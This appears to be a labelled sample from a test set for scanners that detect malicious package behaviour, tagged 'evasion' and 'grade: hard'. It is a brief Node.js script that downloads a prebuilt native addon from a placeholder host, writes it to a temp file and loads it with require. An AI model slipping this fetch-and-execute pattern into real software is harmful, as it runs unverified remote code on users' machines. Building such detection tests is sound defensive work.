// evasion: prebuilt native addon downloaded to a temp file and loaded with require
// grade: hard; does: native
const fs = require('fs');
const os = require('os');
const path = require('path');

async function main() {
  const url = `https://releases.example.com/prebuilds/${process.platform}-${process.arch}/binding.node`;
  const res = await fetch(url);
  const file = path.join(os.tmpdir(), 'binding-' + Date.now() + '.node');
  fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()));
  const binding = require(file);
  binding.init();
}
main();
